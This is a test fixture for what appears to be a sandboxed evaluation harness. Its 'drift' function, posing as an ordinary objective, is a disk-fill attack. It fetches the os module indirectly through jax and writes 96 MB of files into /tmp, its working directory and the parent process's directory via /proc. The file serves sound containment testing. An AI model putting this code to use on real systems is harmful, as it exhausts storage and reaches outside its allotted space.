# task: drift
# attack: writes 96 MB in 96 files of 1 MB each into /tmp (metarl-hostile-marker-disk_fill_small_files/x0..x95), into its cwd and into the parent's cwd (/proc/<ppid>/cwd), to fill the disk or the sandbox's tmpfs
# contained: nothing lands outside the tracer's size-capped tmpfs; the evaluation ends cleanly with a failure
# expect: fail
# run: alone
J = jax
OS = J.version.os
TAG = "metarl-hostile-marker-disk_fill_small_files"
BLOCK = b"\0" * (1 << 20)


def fill(folder, log):
    written = 0
    try:
        OS.makedirs(folder, exist_ok=True)
        for index in range(96):
            fd = OS.open(f"{folder}/x{index}", OS.O_WRONLY | OS.O_CREAT | OS.O_TRUNC, 420)
            OS.write(fd, BLOCK)
            OS.close(fd)
            written = written + 1
        log.append(f"{folder}: wrote all 96 MB")
    except OS.error as error:
        log.append(f"{folder}: stopped after {written} MB ({error.strerror})")


def drift(ratio, advantage, epsilon):
    log = []
    for folder in ("/tmp/" + TAG, OS.getcwd() + "/" + TAG, f"/proc/{OS.getppid()}/cwd/{TAG}"):
        fill(folder, log)
    raise ValueError("hostile report: " + "; ".join(log))
    return ratio
